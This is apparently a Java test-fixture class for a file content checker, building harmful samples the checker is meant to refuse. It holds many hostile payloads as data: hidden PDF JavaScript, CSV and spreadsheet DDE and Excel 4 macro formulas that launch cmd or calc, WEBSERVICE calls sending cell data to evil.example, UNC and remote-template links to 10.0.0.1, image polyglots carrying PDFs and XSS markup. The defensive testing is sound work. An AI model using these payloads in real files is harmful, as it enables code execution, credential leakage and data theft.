package vn.namro.proving.contentcheck;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;

/** Harm that is written so that a careless reader passes it by: every one of these has to be refused, too. */
final class HarmfulDisguises {

	private static final String PACKED = "/Filter /FlateDecode";

	private final List<Sample> samples = new ArrayList<>();

	static List<Sample> all() {
		HarmfulDisguises files = new HarmfulDisguises();
		files.objects();
		files.pdfAddresses();
		files.pdfInPictures();
		files.tables();
		files.documents();
		files.slides();
		return files.samples;
	}

	private void add(String what, String name, byte[] bytes, Refusal refusal) {
		this.samples.add(Sample.harmful(what, name, bytes, refusal));
	}

	/** A stream out of which viewers take a script, with a dictionary that does not say so plainly. */
	private void objects() {
		byte[] script = Pdfs.latin("4 0 << /S /JavaScript /JS (x) >>");
		for (String dictionary : List.of("/Type /ObjStm /N 1 /First 4 " + PACKED + " /Z (obj)", "/Type /ObjStm /N 1 /First 4 " + PACKED + " /Z (1 0 obj)",
				"/Type /ObjStm /N 1 /First 4 " + PACKED + " /Z (" + "A".repeat(4_000) + ")", "/Type 9 0 R /N 1 /First +4 " + PACKED, "/Type 9 0 R /N 1 /First %x\n4 " + PACKED,
				"/N 1 /First +4 " + PACKED, "/Type 9 0 R /N 1 /First +4 /Subtype /Image " + PACKED, "/Type /ObjStm /N 1 /First 4 /F#69lter /Fl#61teDecode /Z (obj)",
				"/Type /ObjStm /N 1 /First 4 " + PACKED + " /Z (>> stream\n x obj << >>)", "/Filter /DCTDecode /Type /ObjStm /N 1 /First 4 " + PACKED)) {
			add("script in a stream of " + dictionary.substring(0, Math.min(60, dictionary.length())), "a.pdf",
					Pdfs.raw("/X 4 0 R", List.of(Pdfs.stream(dictionary, Pdfs.deflated(script)))), Refusal.SCRIPT);
		}
		byte[] commented = Pdfs.latin(new String(Pdfs.stream("/Type /ObjStm /N 1 /First 4 " + PACKED, Pdfs.deflated(script)), StandardCharsets.ISO_8859_1)
			.replaceFirst("\\r?\\nstream", " %comment\nstream"));
		add("script behind a comment", "a.pdf", Pdfs.raw("/X 4 0 R", List.of(commented)), Refusal.SCRIPT);
		add("script for the form of a field", "a.pdf", Pdfs.raw("/AA << /F << /S /JavaScript /JS (x) >> >>"), Refusal.SCRIPT);
		add("script below an address", "a.pdf", Pdfs.raw("/URI << /S /JavaScript /JS (x) >>"), Refusal.SCRIPT);
		add("script in digits", "a.pdf", Pdfs.raw("/X 4 0 R",
				List.of(Pdfs.stream("/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Z (obj)", Pdfs.latin(HexFormat.of().formatHex(script) + ">")))), Refusal.CORRUPT);
	}

	private void pdfAddresses() {
		add("page that is opened with the document", "a.pdf", Pdfs.raw("/OpenAction 4 0 R", "<< /S /URI /URI (https://evil.example/seen) >>"), Refusal.ACTION);
		for (String address : List.of("/F (\\\\\\\\10.0.0.1\\\\share\\\\x)", "/UF (file://evil/x)", "/F << /FS /URL /F (http://evil.example/x) >>")) {
			add("contents elsewhere: " + address, "a.pdf", Pdfs.raw("/X 4 0 R", List.of(Pdfs.stream(address, new byte[0]))), Refusal.ACTION);
		}
	}

	private void pdfInPictures() {
		byte[] pdf = Pdfs.raw("/X 4 0 R", "<< /Type /Font >>");
		byte[] jpeg = Pictures.picture("jpg", 50, 50, 3);
		byte[] comment = { (byte) 0xff, (byte) 0xfe, (byte) (pdf.length + 2 >> 8), (byte) (pdf.length + 2) };
		add("photograph that is a PDF", "a.jpg", Zips.joined(Arrays.copyOf(jpeg, 2), comment, pdf, Arrays.copyOfRange(jpeg, 2, jpeg.length)), Refusal.POLYGLOT);
		byte[] png = Pictures.picture("png", 50, 50, 3);
		byte[] chunk = Zips.joined(new byte[] { 0, 0, (byte) (pdf.length >> 8), (byte) pdf.length }, Pdfs.latin("piCt"), pdf, new byte[4]);
		add("screen that is a PDF", "a.png", Zips.joined(Arrays.copyOf(png, 33), chunk, Arrays.copyOfRange(png, 33, png.length)), Refusal.POLYGLOT);
		add("fax that is a PDF", "a.tif", Zips.joined(Pictures.pages(1, 2, true), pdf), Refusal.POLYGLOT);
		for (String archive : List.of("7z\u00bc\u00af\u0027\u001c\0\4", "Rar!\u001a\u0007\1\0")) {
			add("archive behind nothing", "a.jpg", Zips.joined(jpeg, new byte[50], Pdfs.latin(archive + "\0".repeat(60))), Refusal.POLYGLOT);
		}
		for (String markup : List.of("<HTML\n><p>", "<body onload=alert(1)>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>")) {
			add("picture with " + markup, "a.jpg", Zips.joined(jpeg, Pdfs.latin(markup)), Refusal.POLYGLOT);
		}
	}

	private void tables() {
		for (String line : List.of("Họ tên;=cmd|' /C calc'!A0\n", "a,b\n+cmd|'/c calc'!A1,1\n", "a\t@MSEXCEL|'\\..\\cmd.exe /c a'!''\n", "a,b\n\"=DDE(\"\"cmd\"\";\"\"/c calc\"\")\",1\n",
				"-cmd|'/c a'!A1", "1;=WEBSERVICE(\"http://evil.example/\"&A1)\n")) {
			add("table with " + line.strip(), "a.csv", line.getBytes(StandardCharsets.UTF_8), Refusal.DDE);
		}
		add("table behind much text", "a.csv", ("chữ;số\n".repeat(20_000) + "=cmd|'/c a'!A1\n").getBytes(StandardCharsets.UTF_8), Refusal.DDE);
		add("workbook of symbols", "a.csv", Pdfs.latin("ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"calc\")\nE\n"), Refusal.KIND);
		add("rich text of another version", "a.txt", Pdfs.latin("{\\rt0 {\\object}}"), Refusal.KIND);
		add("print file", "a.txt", Pdfs.latin("%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"), Refusal.KIND);
		add("letter of the mail", "a.txt", Pdfs.latin("X-A: b\nMIME-Version: 1.0\nContent-Type: text/html\n\n<a>x</a>"), Refusal.MARKUP);
		for (String formula : List.of("_xlfn.WEBSERVICE(\"http://evil.example/\"&amp;A2)", "1+RTD(\"evil.prog\",,\"x\")")) {
			add("formula " + formula, "a.xlsx", Zips.xlsx("<row r=\"1\"><c r=\"A1\"><f>" + formula + "</f></c></row>").bytes(), Refusal.EXTERNAL);
		}
		for (String formula : List.of("EXEC(\"calc\")", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "REGISTER.ID(\"a\",\"b\")")) {
			add("name " + formula, "a.xlsx", Zips.xlsx().with("xl/names.xml", "<definedName name=\"_xlnm.Auto_Open\">" + formula + "</definedName>").bytes(), Refusal.MACRO);
		}
		add("condition by DDE", "a.xlsx", Zips.xlsx().with("xl/worksheets/sheet2.xml", "<worksheet><cfRule><formula>cmd|'/c a'!A0</formula></cfRule></worksheet>").bytes(), Refusal.DDE);
		add("data fetched on opening", "a.xlsx", Zips.xlsx().with("xl/connections.xml", "<connections><connection id=\"1\" refreshOnLoad=\"1\"/></connections>").bytes(), Refusal.EXTERNAL);
		add("sheet of macros elsewhere", "a.xlsx", Zips.xlsx().with("xl/x/y.xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>").bytes(), Refusal.MACRO);
		add("control elsewhere", "a.xlsx", Zips.xlsx().with("xl/controls/a.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>").bytes(), Refusal.ACTIVEX);
		for (String formula : List.of("of:=DDE(&quot;soffice&quot;;&quot;file:///etc/passwd&quot;;&quot;a&quot;)", "msoxl:=cmd|'/c calc'!A0")) {
			add("open table with " + formula, "a.ods", Zips.openDocument(FileKind.ODS, "<text:p xmlns:table=\"t\" table:formula=\"" + formula + "\"/>").bytes(), Refusal.DDE);
		}
	}

	private void documents() {
		for (String target : List.of("file:///\\\\10.0.0.1\\share\\x.png", "\\\\10.0.0.1\\share\\x.png")) {
			add("picture from " + target, "a.docx", Zips.docx().with("word/_rels/document.xml.rels", Zips.relations(Zips.relation("rId1", "image", target, true))).bytes(), Refusal.EXTERNAL);
		}
		add("template that says it is inside", "a.docx",
				Zips.docx().with("word/_rels/settings.xml.rels", Zips.relations(Zips.relation("rId1", "attachedTemplate", "http://evil.example/t.dotm", false))).bytes(), Refusal.EXTERNAL);
		for (String field : List.of(" INCLUDEPICTURE \"\\\\\\\\10.0.0.1\\\\s\\\\x.jpg\" \\d ", " INCLUDEPICTURE \"\\\\10.0.0.1\\s\\x.jpg\" ", " IMPORT \"\\\\\\\\10.0.0.1\\\\s\\\\x.jpg\" ",
				" LINK Excel.Sheet.8 \"\\\\\\\\10.0.0.1\\\\s\\\\x.xls\" \"A1\" \\a ", " DATABASE \\d \"\\\\\\\\10.0.0.1\\\\x.mdb\" \\s \"select 1\" ", " RD \"http://evil.example/x.docx\" ")) {
			String text = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>" + field.replace("\"", "&quot;")
					+ "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
			add("field" + field, "a.docx", Zips.docx(text).bytes(), Refusal.EXTERNAL);
		}
		add("form that sends", "a.odt", Zips.openDocument(FileKind.ODT, "<form:form xmlns:form=\"f\" xlink:href=\"http://evil.example/x\"/>").bytes(), Refusal.EXTERNAL);
	}

	/** Records of slides: what they are, how long, what follows ([MS-PPT] 2.3.1). */
	private void slides() {
		byte[] macros = record(2, 0x400, new byte[] { 1, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0 });
		add("slides with macros", "a.ppt", Compounds.of("PowerPoint Document", Zips.joined(record(0xf, 0x3e8, new byte[0]), macros)), Refusal.MACRO);
		add("slides with a password", "a.ppt", Compounds.of("PowerPoint Document", record(0xf, 0x2f14, new byte[8])), Refusal.ENCRYPTED);
		byte[] project = Compounds.of("VBA/dir", new byte[50]);
		byte[] program = Compounds.of("\u0001Ole10Native", new byte[50]);
		add("slides with a packed project", "a.ppt", Compounds.of("PowerPoint Document", record(0x10, 0x1011, Zips.joined(new byte[4], Pdfs.deflated(project)))), Refusal.MACRO);
		add("slides with a file", "a.ppt", Compounds.of("PowerPoint Document", record(0, 0x1011, program)), Refusal.EMBEDDED);
		add("slides with a packed file", "a.ppt", Compounds.of("PowerPoint Document", record(0x10, 0x1011, Zips.joined(new byte[4], Pdfs.deflated(program)))), Refusal.EMBEDDED);
	}

	private static byte[] record(int version, int type, byte[] content) {
		byte[] header = { (byte) version, 0, (byte) type, (byte) (type >> 8), (byte) content.length, (byte) (content.length >> 8), (byte) (content.length >> 16), 0 };
		return Zips.joined(header, content);
	}

}
